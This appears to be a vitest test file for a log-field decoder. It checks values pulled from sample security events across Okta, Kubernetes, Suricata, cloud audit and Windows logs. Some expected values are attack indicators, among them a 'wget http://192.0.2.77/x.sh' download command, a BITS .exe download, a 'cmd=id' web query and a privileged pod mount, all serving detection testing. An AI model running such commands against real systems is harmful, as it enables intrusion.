import { Buffer } from 'node:buffer';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { createDecoder } from '../decode/create-decoder.ts';
import type { FieldValue } from '../field-value.ts';

const samples = join(import.meta.dirname, 'samples');

test.each<[sample: string, field: string, value: FieldValue]>([
  ['okta/policy-elastic', 'eventType', 'policy.rule.delete'],
  ['okta/policy-elastic', 'target.displayName', ['Block legacy clients']],
  ['github-audit/two-factor-elastic', 'action', 'two_factor_authentication.disabled'],
  ['kubernetes-audit/pod-create', 'hostPath', ['/']],
  ['kubernetes-audit/pod-create', 'capabilities', ['SYS_ADMIN']],
  ['kubernetes-audit/forbidden-elastic', 'responseStatus.code', 403],
  ['suricata/dns-v2', 'query', 'updates.example.net'],
  ['suricata/dns-v2', 'answer', ['192.0.2.77']],
  ['suricata/http-download', 'c-uri-extension', 'exe'],
  ['suricata/http-download', 'c-uri-query', 'x=1'],
  ['suricata/http', 'cs-method', 'GET'],
  ['suricata/flow-elastic', 'dst_port', 443],
  ['web-access/proxy-ecs', 'c-uri-extension', 'exe'],
  ['web-access/nginx', 'c-uri-query', 'cmd=id'],
  ['linux-syslog/sudo-journald', 'USER', '#-1'],
  ['linux-syslog/sudo-journald', 'COMMAND', '/bin/bash'],
  ['linux-syslog/pam-filebeat-line', 'session.user', 'deploy'],
  ['ecs/process-linux', 'Image', '/usr/bin/wget'],
  ['ecs/process-linux', 'CommandLine', 'wget http://192.0.2.77/x.sh'],
  ['ecs/registry-windows', 'Details', ['C:\\Temp\\u.exe']],
  ['ecs/firewall-denied', 'dst_port', 3389],
  ['ecs/malware', 'Signature', 'Trojan.Example'],
  ['ocsf/process-launch', 'Image', 'C:\\Windows\\System32\\whoami.exe'],
  ['ocsf/process-launch', 'ParentImage', 'C:\\Windows\\System32\\cmd.exe'],
  ['ocsf/dns', 'query', 'updates.example.net'],
  ['ocsf/cloudtrail', 'eventName', 'DeleteTrail'],
  ['aws-cloudtrail/elastic', 'eventSource', 'cloudtrail.amazonaws.com'],
  ['azure/activity', 'OperationNameValue', 'MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WRITE'],
  ['azure/directory-audit', 'properties.message', 'Add member to role'],
  ['azure/sign-in', 'AuthenticationRequirement', 'singleFactorAuthentication'],
  ['gcp-audit/insert', 'gcp.audit.method_name', 'v1.compute.firewalls.insert'],
  ['gcp-audit/workspace-admin', 'eventName', ['GRANT_ADMIN_PRIVILEGE']],
  ['m365/federated-domain', 'eventName', 'Add-FederatedDomain'],
  ['windows/defender-xml', 'ThreatName', 'Trojan:Example/Test'],
  ['windows/bits-winlogbeat-6', 'RemoteName', 'http://192.0.2.77/a.exe'],
  ['windows/session-logon-xml-bare', 'Address', '203.0.113.9'],
  ['windows-sysmon/process-creation-wazuh', 'ParentCommandLine', 'cmd.exe'],
])('a rule finds in %s as %s: %j', (sample, field, expected) => {
  const { event } = JSON.parse(readFileSync(join(samples, `${sample}.json`), 'utf8')) as { event: object };
  const value = Buffer.from(JSON.stringify(event));
  const record = { topicId: 'topic', partition: 0, offset: 0, timestamp: 0, value, headers: {} };
  const column = createDecoder({ fields: () => [field] })
    .decode([record])
    .batches[0]?.field(field);
  expect(column?.dictionary.valueOf(column.codes[0] ?? 0)).toEqual(expected);
});
